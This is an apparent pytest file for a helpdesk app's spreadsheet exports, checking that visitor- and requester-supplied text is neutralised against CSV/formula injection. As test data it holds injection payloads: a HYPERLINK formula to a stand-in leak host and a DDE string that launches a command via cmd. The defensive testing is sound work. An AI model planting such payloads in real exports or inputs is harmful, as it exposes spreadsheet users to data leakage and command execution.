"""Text typed by visitors and requesters stays text in every spreadsheet export: a name such as
=HYPERLINK(...) is never a live formula in XLSX and is quoted in CSV (issue 12, CSV injection)."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from lpsedesk.exports import DocumentSpec, render_csv, render_xlsx
from lpsedesk.extensions import db
from lpsedesk.models import RemoteAccessRequest

from .. import factories
from ..conftest import TEST_PASSWORD, csrf_from, logged_in_client

LINK = '=HYPERLINK("http://x.example/?leak","click")'
HOSTILE = [LINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
DAY = datetime(2026, 11, 18, 2, 0, tzinfo=timezone.utc)  # 09.00 WIB
PERIOD = {"from": "2026-11-18", "to": "2026-11-18"}


def formula_cells(data: bytes) -> list[str]:
    ws = load_workbook(io.BytesIO(data)).active
    return [f"{c.coordinate}={c.value!r}" for row in ws.iter_rows() for c in row if c.data_type == "f"]


def cell_texts(data: bytes) -> set[str]:
    ws = load_workbook(io.BytesIO(data)).active
    return {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def assert_quoted_in_csv(data: bytes, texts: list[str]) -> None:
    cells = csv_cells(data)
    for text in texts:
        # marked at its start (and, since sec15, after a line break too: test_csv_formula_after_line_break)
        assert any(c.startswith("'") and c.replace("'", "") == text.replace("'", "") for c in cells), \
            f"{text!r} not quoted as text"
    assert not any(c.startswith(("=", "@", "\t", "\r")) or c.startswith("+") and not c[1:].isdigit() for c in cells)


def test_the_export_library_writes_formula_looking_text_as_text():
    spec = DocumentSpec(title="Uji", columns=["No.", "Nama", "Catatan"],
                        rows=[[str(i), text, text] for i, text in enumerate(HOSTILE, start=1)] + [["7", "-5", "+62"]],
                        lpse_name=LINK, subtitle="@x")
    data = render_xlsx(spec)
    assert formula_cells(data) == []
    # XML reads a lone CR back as LF; the text is otherwise kept, as a string cell.
    assert {t.replace("\r", "\n") for t in HOSTILE} <= cell_texts(data)
    assert_quoted_in_csv(render_csv(spec), HOSTILE)
    assert {"-5", "+62"} <= set(csv_cells(render_csv(spec))), "plain numbers are left alone"


@pytest.fixture
def hostile_visits(app, make_user):
    helper = make_user("rina", "helpdesk", name="Rina Meja")
    make_user("sinta", "admin", name="Sinta Admin")
    with app.app_context():
        factories.visit(visitor=factories.visitor(full_name=LINK, institution="@SUM(A1:A9)"), submitted_at=DAY,
                        purpose_detail="+1+2")
        reported = factories.visit(visitor=factories.visitor(full_name="-2+3", institution="\t=1+1",
                                                             nik="3373021203850002"),
                                   status="reported", submitted_at=DAY, decided_at=DAY,
                                   checked_out_at=DAY + timedelta(hours=1), reported_at=DAY + timedelta(hours=2),
                                   reported_by_id=helper)
        from lpsedesk.models import VisitNote
        db.session.add(VisitNote(visit_id=reported.id, body=LINK, author_id=helper))
        db.session.commit()


@pytest.mark.parametrize("path,query,who", [
    ("/admin/reports/guestbook", PERIOD, "rina"),
    ("/admin/reports/guestbook", {**PERIOD, "full_nik": "1"}, "sinta"),
    ("/admin/reports/visits", PERIOD, "rina"),
])
def test_report_exports_never_hold_a_formula(app, hostile_visits, path, query, who):
    c = logged_in_client(app, who)
    xlsx = c.get(path + ".xlsx", query_string=query)
    assert xlsx.status_code == 200
    assert formula_cells(xlsx.data) == []
    texts = cell_texts(xlsx.data)
    assert any(t.startswith(("=HYPERLINK", "-2+3")) or LINK in t for t in texts)
    csv_data = c.get(path + ".csv", query_string=query)
    assert csv_data.status_code == 200
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in csv_cells(csv_data.data))
    assert "-2+3" not in csv_cells(csv_data.data)


def test_the_remote_access_form_never_holds_a_formula(app, make_user):
    make_user("sinta", "admin", name="Sinta Admin")
    with app.app_context():
        db.session.add(RemoteAccessRequest(
            requester_name=LINK, instansi="+1+2", letter_number="-1", letter_date=DAY.date(),
            purpose="@SUM(A1)", rights_requested="Hanya baca", period_start=DAY, period_end=DAY + timedelta(days=1),
            status="closed", decided_at=DAY, approved_until=DAY + timedelta(days=1), username="=cmd|' /C calc'!A0",
            rights_granted="\t=1+1", granted_at=DAY, closed_at=DAY + timedelta(hours=5)))
        db.session.commit()
    c = logged_in_client(app, "sinta")
    xlsx = c.get("/admin/remote/form.xlsx?kind=month&value=2026-11")
    assert xlsx.status_code == 200
    assert formula_cells(xlsx.data) == []
    assert LINK in cell_texts(xlsx.data)
    assert_quoted_in_csv(c.get("/admin/remote/form.csv?kind=month&value=2026-11").data, [LINK, "+1+2"])


def test_formula_looking_text_keeps_excels_text_mark_so_editing_the_cell_does_not_run_it():
    # Excel evaluates a string cell starting with "=" once someone edits it, unless the cell carries
    # the quote prefix (Format Cells > "text"); plain names and numbers are left unmarked.
    spec = DocumentSpec(title="Uji", columns=["No.", "Nama"],
                        rows=[[str(i), text] for i, text in enumerate(HOSTILE, start=1)] + [["7", "Sari Uji"]])
    ws = load_workbook(io.BytesIO(render_xlsx(spec))).active
    marks = {c.value: (c.data_type, c.quotePrefix) for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in HOSTILE:
        assert marks[text.replace("\r", "\n")] == ("s", True), text
    assert marks["Sari Uji"] == ("s", False)
